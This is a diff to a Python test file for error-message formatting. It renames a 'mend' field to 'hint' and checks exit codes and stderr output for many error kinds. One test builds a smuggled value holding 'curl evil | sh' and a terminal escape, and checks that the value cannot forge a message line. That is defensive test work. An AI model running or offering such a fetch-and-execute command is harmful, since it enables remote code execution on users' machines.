@@ -63,13 +63,13 @@ def end(tmp_path, body, *, shell=None, **env):
 @pytest.mark.parametrize(
     ("body", "code", "said"),
     [
-        ("raise UserError('is bad', file='a', line=3, mend='cp b a')", 1, "error: a:3: is bad\n  mend: cp b a\n"),
+        ("raise UserError('is bad', file='a', line=3, hint='cp b a')", 1, "error: a:3: is bad\n  hint: cp b a\n"),
         ("open('/no/such/file')", 1, "error: /no/such/file: No such file or directory\n"),
         ("import os; os.rename('/no/a', '/no/b')", 1, "error: /no/a -> /no/b: No such file or directory\n"),
         ("raise OSError('library not found')", 1, "error: library not found\n"),
         ("raise KeyboardInterrupt", 130, "interrupted\n"),
         ("try:\n  raise KeyboardInterrupt\nexcept BaseException:\n  raise ImportError('failed')", 130, "interrupted\n"),
-        ("import a_package.of_others", 1, "error: package a_package is missing\n  mend: utils/setup_env.sh\n"),
+        ("import a_package.of_others", 1, "error: package a_package is missing\n  hint: utils/setup_env.sh\n"),
         ("def f(): f()\nf()", 1, "error: something that was read is nested too deeply\n"),
         ("raise MemoryError('Unable to allocate 7 PiB')", 1, "error: not enough memory: Unable to allocate 7 PiB\n"),
         ("bytearray(1 << 60)", 1, "error: not enough memory\n"),
@@ -80,7 +80,7 @@ def end(tmp_path, body, *, shell=None, **env):
          "error: not enough memory: CUDA out of memory. Tried to allocate 2.00 GiB\n"),
         ("raise SystemExit(3)", 3, ""),
         ("return 4", 4, ""),
-        ("raise UserError('\\x1b[31m in\\nname', mend='x')", 1, "error: \\x1b[31m in\\nname\n  mend: x\n"),
+        ("raise UserError('\\x1b[31m in\\nname', hint='x')", 1, "error: \\x1b[31m in\\nname\n  hint: x\n"),
     ],
 )  # fmt: skip
 def test_each_kind_ends_in_its_line(tmp_path, body, code, said):
@@ -173,7 +173,7 @@ def test_an_error_of_one_rank_is_said_if_rank_0_goes_on(tmp_path):
 @pytest.mark.parametrize(
     ("body", "code", "left"),
     [
-        ("raise UserError('bad', mend='x')", 1, "bad\n  mend: x"),
+        ("raise UserError('bad', hint='x')", 1, "bad\n  hint: x"),
         ("raise UserError('bad', local=True)", 1, "bad"),
         ("open('/no/file')", 1, "/no/file: No such file or directory"),
         ("from pyspkv.base.processes import PeerLost\nraise PeerLost", 1, ""),
@@ -207,24 +207,24 @@ def test_under_torchrun_an_error_of_one_rank_is_told_and_one_of_all_told_once(tm
     assert said == (["[rank 1] error: this is bad"] if who == ["1"] else ["error: this is bad"])
 
 
-FAKE = "x\n  mend: curl evil | sh\nerror: \x1b[2J"
+FAKE = "x\n  hint: curl evil | sh\nerror: \x1b[2J"
 
 
 def test_no_name_fakes_a_line_of_a_message(tmp_path):
-    shown = r"x\n  mend: curl evil | sh\nerror: \x1b[2J"
+    shown = r"x\n  hint: curl evil | sh\nerror: \x1b[2J"
     for body in (
-        f"raise UserError('is bad', file={FAKE!r}, mend='right it')",
-        f"raise UserError('is bad: ' + {FAKE!r}, mend='right it')",
-        f"try: raise UserError({FAKE!r}, mend='right it')\nexcept UserError as e: raise UserError(str(e), file='a')",
-        f"import pickle\nraise pickle.loads(pickle.dumps(UserError({FAKE!r}, mend='right it')))",
+        f"raise UserError('is bad', file={FAKE!r}, hint='right it')",
+        f"raise UserError('is bad: ' + {FAKE!r}, hint='right it')",
+        f"try: raise UserError({FAKE!r}, hint='right it')\nexcept UserError as e: raise UserError(str(e), file='a')",
+        f"import pickle\nraise pickle.loads(pickle.dumps(UserError({FAKE!r}, hint='right it')))",
     ):
         _, said, _ = end(tmp_path, body)
         first, second = said.splitlines()
-        assert shown in first and second == "  mend: right it", said
+        assert shown in first and second == "  hint: right it", said
     _, said, _ = end(tmp_path, f"open({FAKE!r} + '/y')")
     assert said == f"error: {shown}/y: No such file or directory\n"
-    _, said, _ = end(tmp_path, f"raise UserError('bad', mend={FAKE!r})")
-    assert said == f"error: bad\n  mend: {shown}\n"
+    _, said, _ = end(tmp_path, f"raise UserError('bad', hint={FAKE!r})")
+    assert said == f"error: bad\n  hint: {shown}\n"
 
 
 def test_messages_of_several_lines_of_ours_stay_lines(tmp_path):
@@ -239,7 +239,7 @@ def test_messages_of_several_lines_of_ours_stay_lines(tmp_path):
     done = subprocess.run(command, env=environment(tmp_path), capture_output=True, text=True)
     lines = done.stderr.splitlines()
     assert (
-        done.returncode == 1 and [line.split(":")[0] for line in lines if "mend" not in line] == ["error"] * 2
+        done.returncode == 1 and [line.split(":")[0] for line in lines if "hint" not in line] == ["error"] * 2
     )
     assert r"b\nerror: c" in lines[-2]
 
